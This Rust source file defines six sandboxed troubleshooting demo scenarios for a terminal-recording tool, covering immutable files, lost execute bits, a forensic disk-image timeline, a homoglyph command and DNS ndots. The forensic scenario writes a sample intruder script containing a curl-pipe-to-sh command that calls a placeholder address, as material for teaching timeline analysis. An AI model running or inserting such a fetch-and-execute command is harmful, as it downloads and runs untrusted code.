//! The demo's fix scenarios, as data: what each puts in the sandbox, the lines a person
//! types (symptom, investigation, fix, verification), and the session's title, tags,
//! note and marked fix. Every file a scenario makes is inside the sandbox.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use anyhow::Context;

/// One line typed at the prompt.
pub enum Step {
    /// A command line; the next step waits for the prompt after it.
    Line(String),
    /// A command line starting a full-screen program, and the keys that drive it out.
    FullScreen(String, Vec<&'static str>),
}

/// A scenario ready to be recorded.
pub struct Scenario {
    /// Where the shell starts, inside the sandbox.
    pub cwd: PathBuf,
    pub steps: Vec<Step>,
    /// The command line (as typed) marked as the session's fix; `None` when the machine
    /// would not let the fix happen (told in `caveat`).
    pub fix: Option<String>,
    pub note: String,
    /// Said beside the outcome: what was left out on this machine, and why.
    pub caveat: Option<String>,
}

/// What a scenario is, before the sandbox is made.
pub struct Spec {
    /// Short name, for the progress lines.
    pub name: &'static str,
    pub title: &'static str,
    pub tags: &'static [&'static str],
    /// Puts its files in the sandbox; `Err` with a reason when it cannot run here.
    pub prepare: fn(&Path) -> anyhow::Result<Result<Scenario, String>>,
}

pub const ALL: &[Spec] = &[
    Spec {
        name: "immutable file",
        title: "demo: config write fails as root (immutable bit)",
        tags: &["demo", "chattr", "permissions"],
        prepare: immutable_file,
    },
    Spec {
        name: "lost executable bit",
        title: "demo: chmod lost its own x bit (run it through the loader)",
        tags: &["demo", "chmod", "ld-linux"],
        prepare: lost_exec_bit,
    },
    Spec {
        name: "forensic timeline",
        title: "demo: what was deleted from the disk image, and when (fls, mactime)",
        tags: &["demo", "forensics", "sleuthkit"],
        prepare: forensic_timeline,
    },
    Spec {
        name: "look-alike character",
        title: "demo: kubectl \"command not found\" (a Cyrillic letter)",
        tags: &["demo", "homoglyph", "kubectl"],
        prepare: look_alike,
    },
    Spec {
        name: "dns policy",
        title: "demo: a short name resolves to the wrong address in a pod (ndots:5)",
        tags: &["demo", "dns", "kubernetes"],
        prepare: dns_policy,
    },
    Spec {
        name: "noisy log",
        title: "demo: debug logging floods the disk (less, top, a long log)",
        tags: &["demo", "logs", "disk"],
        prepare: noisy_log,
    },
];

/// The shell's start-up file in the sandbox's HOME: a short prompt, history kept there.
pub const BASHRC: &str = "PS1='\\u@fixcast-demo:\\w\\$ '\nHISTFILE=~/.bash_history\n";

/// The stand-in `kubectl`: answers the two commands the scenarios type.
const KUBECTL: &str = r#"#!/bin/sh
# fixcast demo: a stand-in kubectl (no cluster needed)
case "$1" in
  version) echo "Client Version: v1.31.0 (fixcast demo stand-in)" ;;
  get) printf 'NAME                   READY   STATUS    RESTARTS   AGE\napi-7d9f8b6c4d-x2kqp   1/1     Running   0          3d\nweb-5c6b7d8f9-lm4zt    1/1     Running   0          3d\n' ;;
  *) echo "kubectl (demo stand-in): $*" ;;
esac
"#;

fn write(path: &Path, text: &str, mode: u32) -> anyhow::Result<()> {
    if let Some(dir) = path.parent() {
        std::fs::create_dir_all(dir).with_context(|| format!("cannot create {}", dir.display()))?;
    }
    std::fs::write(path, text).with_context(|| format!("cannot write {}", path.display()))?;
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode))
        .with_context(|| format!("cannot set the mode of {}", path.display()))
}

/// The sandbox's `bin/` (on the shell's PATH) with the stand-in kubectl.
pub fn prepare_home(sandbox: &Path) -> anyhow::Result<()> {
    write(&sandbox.join(".bashrc"), BASHRC, 0o644)?;
    write(&sandbox.join("bin/kubectl"), KUBECTL, 0o755)
}

/// A tool on the PATH or in the sbin folders (where e2fsprogs puts its tools).
pub fn find_tool(name: &str) -> Option<PathBuf> {
    let path = std::env::var_os("PATH").unwrap_or_default();
    std::env::split_paths(&path)
        .chain(["/usr/sbin", "/sbin"].map(PathBuf::from))
        .map(|d| d.join(name))
        .find(|p| {
            p.metadata()
                .is_ok_and(|m| m.is_file() && m.permissions().mode() & 0o111 != 0)
        })
}

fn line(s: &str) -> Step {
    Step::Line(s.to_owned())
}

fn immutable_file(sandbox: &Path) -> anyhow::Result<Result<Scenario, String>> {
    if find_tool("chattr").is_none() || find_tool("lsattr").is_none() {
        return Ok(Err(
            "chattr not installed: apt-get install e2fsprogs".to_owned()
        ));
    }
    let dir = sandbox.join("app");
    let conf = dir.join("app.conf");
    write(&conf, "# app service\nport=8080\nworkers=4\n", 0o644)?;
    let note = "Root cause: app.conf had the immutable attribute (chattr +i), which even \
                root cannot write through and which ls -l does not show; lsattr does. \
                Fix: chattr -i app.conf (put it back with chattr +i if the lock was meant)."
        .to_owned();
    let symptom = "echo 'port=9090' >> app.conf";
    // `chattr +i` needs CAP_LINUX_IMMUTABLE (root, and not every container grants it)
    // and a file system with attributes.
    let locked = Command::new(find_tool("chattr").unwrap_or_default())
        .arg("+i")
        .arg(&conf)
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .output()
        .context("cannot run chattr")?;
    if !locked.status.success() {
        let err = String::from_utf8_lossy(&locked.stderr);
        let why = if err.contains("Operation not permitted") {
            "it needs root".to_owned()
        } else {
            // A file system without attributes (tmpfs, some overlays), say.
            err.trim()
                .rsplit(": ")
                .next()
                .unwrap_or_default()
                .to_owned()
        };
        return Ok(Ok(Scenario {
            cwd: dir,
            steps: vec![
                line("cat app.conf"),
                line("ls -l app.conf"),
                line("lsattr app.conf"),
                line("chattr +i app.conf"),
            ],
            fix: None,
            note,
            caveat: Some(format!(
                "chattr +i not permitted here ({why}): recorded lsattr only, run as root for the whole fix"
            )),
        }));
    }
    Ok(Ok(Scenario {
        cwd: dir,
        steps: vec![
            line("cat app.conf"),
            line(symptom),
            line("id -un"),
            line("ls -l app.conf"),
            line("lsattr app.conf"),
            line("chattr -i app.conf"),
            line(symptom),
            line("tail -n 2 app.conf"),
        ],
        fix: Some("chattr -i app.conf".to_owned()),
        note,
        caveat: None,
    }))
}

/// The machine's dynamic loader, which runs an ELF file that has no x bit.
pub fn loader() -> Option<PathBuf> {
    let known = [
        "/lib64/ld-linux-x86-64.so.2",
        "/lib/ld-linux-aarch64.so.1",
        "/lib/ld-linux-armhf.so.3",
        "/lib/ld-linux.so.2",
    ];
    if let Some(p) = known.iter().map(PathBuf::from).find(|p| p.exists()) {
        return Some(p);
    }
    // `ldd /bin/true` names it on its last line: `/lib/ld-linux-….so.1 (0x…)`.
    let out = Command::new("ldd").arg("/bin/true").output().ok()?;
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .find(|w| w.starts_with('/') && w.contains("/ld-"))
        .map(PathBuf::from)
}

fn lost_exec_bit(sandbox: &Path) -> anyhow::Result<Result<Scenario, String>> {
    let Some(loader) = loader() else {
        return Ok(Err(
            "no dynamic loader found (ldd /bin/true names none)".to_owned()
        ));
    };
    let Some(chmod) = find_tool("chmod") else {
        return Ok(Err("no chmod on the PATH".to_owned()));
    };
    let dir = sandbox.join("tools");
    std::fs::create_dir_all(&dir)?;
    std::fs::copy(&chmod, dir.join("chmod")).context("cannot copy chmod")?;
    std::fs::set_permissions(dir.join("chmod"), std::fs::Permissions::from_mode(0o644))?;
    write(&dir.join("kubectl"), KUBECTL, 0o644)?;
    let fix = format!("{} ./chmod +x ./chmod", loader.display());
    Ok(Ok(Scenario {
        cwd: dir,
        steps: vec![
            line("./kubectl version"),
            line("ls -l kubectl chmod"),
            line("./chmod +x kubectl"),
            line(&fix),
            line("./chmod +x kubectl"),
            line("./kubectl version"),
        ],
        fix: Some(fix),
        note: "Root cause: a copy step (a tarball made without modes) dropped the x bits of \
               chmod and kubectl, so chmod could not run to put them back. Fix: run chmod \
               through the dynamic loader, which maps and runs an ELF file whatever its mode: \
               ld-linux.so ./chmod +x ./chmod, then chmod the rest."
            .to_owned(),
        caveat: None,
    }))
}

fn forensic_timeline(sandbox: &Path) -> anyhow::Result<Result<Scenario, String>> {
    if find_tool("fls").is_none() || find_tool("mactime").is_none() {
        return Ok(Err(
            "fls not installed: apt-get install sleuthkit".to_owned()
        ));
    }
    if find_tool("mkfs.ext4").is_none() || find_tool("debugfs").is_none() {
        return Ok(Err(
            "mkfs.ext4 not installed: apt-get install e2fsprogs".to_owned()
        ));
    }
    let dir = sandbox.join("case-42");
    write(
        &dir.join("payload.sh"),
        "#!/bin/sh\n# dropped by the intruder\ncurl -s http://203.0.113.7/x | sh\n",
        0o644,
    )?;
    write(
        &dir.join("notes.txt"),
        "backup of /srv before the incident\n",
        0o644,
    )?;
    Ok(Ok(Scenario {
        cwd: dir,
        steps: vec![
            line("truncate -s 8M disk.img && mkfs.ext4 -q -F disk.img"),
            line("debugfs -w -R 'write notes.txt notes.txt' disk.img"),
            line("debugfs -w -R 'write payload.sh payload.sh' disk.img"),
            line("debugfs -w -R 'rm payload.sh' disk.img"),
            line("fls -r disk.img"),
            line("fls -r -m / disk.img > body.txt"),
            line("mactime -b body.txt -d | tail -n 6"),
        ],
        fix: Some("mactime -b body.txt -d | tail -n 6".to_owned()),
        note: "Question: what changed on the disk, and when? The image (made with mkfs.ext4 and \
               filled with debugfs, never mounted) lists payload.sh as deleted; fls -r -m / \
               writes a body file of every inode's times and mactime turns it into a timeline: \
               payload.sh was written, then deleted, after notes.txt."
            .to_owned(),
        caveat: None,
    }))
}

fn look_alike(sandbox: &Path) -> anyhow::Result<Result<Scenario, String>> {
    let dir = sandbox.join("k8s");
    std::fs::create_dir_all(&dir)?;
    // U+0441 CYRILLIC SMALL LETTER ES, pasted from a chat message: it looks like `c`.
    let typo = "kube\u{441}tl get pods";
    Ok(Ok(Scenario {
        cwd: dir,
        steps: vec![
            line(typo),
            line("which kubectl"),
            line(&format!("printf '%s' '{typo}' | od -An -c | head -n 2")),
            line("kubectl get pods"),
        ],
        fix: Some("kubectl get pods".to_owned()),
        note: "Root cause: the command was pasted from a chat message and its 'c' was a Cyrillic \
               'с' (U+0441), so bash looked for a program that does not exist. fixcast marks the \
               line suspicious (search suspicious:true). Fix: type the command again by hand."
            .to_owned(),
        caveat: None,
    }))
}

/// A stub resolver over the sandbox's files, following resolv.conf(5)'s rules: a name
/// with fewer dots than `ndots` is tried with each search domain first; a trailing dot
/// means the name is absolute. (`getent` only reads the machine's /etc/hosts.)
const RESOLVE: &str = r#"#!/bin/bash
# fixcast demo: resolve NAME the way a pod's resolver does, over ./hosts and ./resolv.conf
name=$1
ndots=$(sed -n 's/.*ndots:\([0-9]*\).*/\1/p' resolv.conf); ndots=${ndots:-1}
search=$(sed -n 's/^search //p' resolv.conf)
lookup() { awk -v n="$1" '$2 == n { print $1; exit }' hosts; }
try() { ip=$(lookup "$1"); echo "  try $1 -> ${ip:-NXDOMAIN}" >&2; [ -n "$ip" ] && { echo "$ip"; exit 0; }; }
if [[ $name == *. ]]; then try "${name%.}"; exit 1; fi
dots=${name//[^.]/}
if (( ${#dots} >= ndots )); then try "$name"; fi
for d in $search; do try "$name.$d"; done
try "$name"
exit 1
"#;

const CHECK: &str = r#"#!/bin/bash
# fixcast demo: the service's health check: the API must be the public one
ip=$(./resolve api.example.com 2>/dev/null)
if [ "$ip" != 203.0.113.10 ]; then
  echo "healthcheck: api.example.com is ${ip:-unresolved}, want 203.0.113.10: TLS handshake failed" >&2
  exit 1
fi
echo "healthcheck: api.example.com is $ip: ok"
"#;

fn dns_policy(sandbox: &Path) -> anyhow::Result<Result<Scenario, String>> {
    let dir = sandbox.join("pod");
    write(
        &dir.join("resolv.conf"),
        "search default.svc.cluster.local svc.cluster.local cluster.local\n\
         nameserver 10.96.0.10\n\
         options ndots:5\n",
        0o644,
    )?;
    write(
        &dir.join("hosts"),
        "10.96.0.10    kube-dns.kube-system.svc.cluster.local\n\
         10.96.14.2    api.default.svc.cluster.local\n\
         10.96.99.99   api.example.com.cluster.local\n\
         203.0.113.10  api.example.com\n",
        0o644,
    )?;
    write(&dir.join("resolve"), RESOLVE, 0o755)?;
    write(&dir.join("healthcheck"), CHECK, 0o755)?;
    Ok(Ok(Scenario {
        cwd: dir,
        steps: vec![
            line("./healthcheck"),
            line("cat resolv.conf"),
            line("./resolve api.example.com"),
            line("grep api.example.com hosts"),
            line("./resolve api.example.com."),
            line("sed -i 's/ndots:5/ndots:1/' resolv.conf"),
            line("./healthcheck"),
        ],
        fix: Some("sed -i 's/ndots:5/ndots:1/' resolv.conf".to_owned()),
        note: "Root cause: the pod's dnsPolicy (ClusterFirst) writes 'options ndots:5' and the \
               cluster search domains into resolv.conf, so api.example.com (one dot) is first \
               tried as api.example.com.<search domain>, and a stale cluster.local record \
               answered. Fix: dnsConfig options ndots:1 in the pod spec (here: the file), or \
               a fully qualified name with a trailing dot (api.example.com.)."
            .to_owned(),
        caveat: None,
    }))
}

fn noisy_log(sandbox: &Path) -> anyhow::Result<Result<Scenario, String>> {
    let dir = sandbox.join("svc");
    let mut log = String::new();
    for i in 0..2400u32 {
        let (level, what) = match i % 97 {
            0 => ("ERROR", "write /var/lib/app/queue: no space left on device"),
            n if n % 3 == 0 => ("INFO", "request served"),
            _ => ("DEBUG", "cache probe: key miss, fetching from upstream"),
        };
        log.push_str(&format!(
            "2026-11-30T23:{:02}:{:02}Z {level:<5} worker={} {what} id={i}\n",
            i / 60 % 60,
            i % 60,
            i % 4
        ));
    }
    write(&dir.join("logs/app.log"), &log, 0o644)?;
    write(&dir.join("app.env"), "level=debug\nworkers=4\n", 0o644)?;
    Ok(Ok(Scenario {
        cwd: dir,
        steps: vec![
            line("du -ah logs | sort -h | tail -n 3"),
            line("cat logs/app.log"),
            Step::FullScreen("less logs/app.log".to_owned(), vec!["G", "?ERROR\r", "q"]),
            Step::FullScreen("top -d 1".to_owned(), vec!["q"]),
            line("grep -c DEBUG logs/app.log"),
            line("cat app.env"),
            line("sed -i 's/^level=debug/level=info/' app.env"),
            line("grep level app.env"),
        ],
        fix: Some("sed -i 's/^level=debug/level=info/' app.env".to_owned()),
        note: "Root cause: the service was left at level=debug after an incident, and its \
               DEBUG lines (most of app.log) filled the disk until writes failed with 'no \
               space left on device'. Fix: level=info in app.env."
            .to_owned(),
        caveat: None,
    }))
}
